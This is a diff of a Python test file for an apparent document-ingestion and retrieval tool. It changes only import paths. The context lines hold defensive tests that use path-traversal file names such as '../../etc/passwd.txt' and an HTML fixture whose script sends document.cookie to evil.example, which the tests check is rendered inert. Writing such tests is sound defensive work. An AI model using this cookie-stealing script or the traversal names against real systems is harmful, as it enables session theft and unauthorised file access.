@@ -72,8 +72,8 @@ def small_limits(tmp_path):
 
 
 def test_each_hostile_upload_fails_alone_with_a_clear_reason(small_limits, embedder):
-    from specrag.ingest import Ingestor
-    from specrag.retrieval import Retriever
+    from specrag.ingest.ingestor import Ingestor
+    from specrag.retrieval.retriever import Retriever
 
     ing = Ingestor(small_limits, embedder=embedder)
     ing.ingest_bytes([("access.txt", GOOD)], "ops")
@@ -95,7 +95,7 @@ def test_each_hostile_upload_fails_alone_with_a_clear_reason(small_limits, embed
 
 
 def test_odd_file_names_are_names_never_paths(tmp_path, settings, embedder):
-    from specrag.ingest import Ingestor
+    from specrag.ingest.ingestor import Ingestor
 
     ing = Ingestor(settings, embedder=embedder)
     names = ["../../etc/passwd.txt", "..\\..\\Windows\\win.ini.txt", "/abs/notes.md",
@@ -115,8 +115,8 @@ def test_odd_file_names_are_names_never_paths(tmp_path, settings, embedder):
 
 
 def test_markup_in_documents_is_stored_as_text_and_rendered_inert(settings, embedder):
-    from specrag.ingest import Ingestor
-    from specrag.retrieval import Retriever
+    from specrag.ingest.ingestor import Ingestor
+    from specrag.retrieval.retriever import Retriever
 
     html_doc = (b"<html><body><h1>Policy</h1><p>Laptops are encrypted.</p>"
                 b"<script>fetch('//evil.example/'+document.cookie)</script>"
@@ -144,7 +144,7 @@ def test_markup_in_documents_is_stored_as_text_and_rendered_inert(settings, embe
     (b"bytes", "must be text"),
 ])
 def test_bad_questions_are_refused_before_any_model(tmp_path, question, match):
-    from specrag.engine import SpeculativeRAG
+    from specrag.pipeline.engine import SpeculativeRAG
     from specrag.testing import FakeGenerator
     from tests.test_engine_flow import FakeRetriever
 
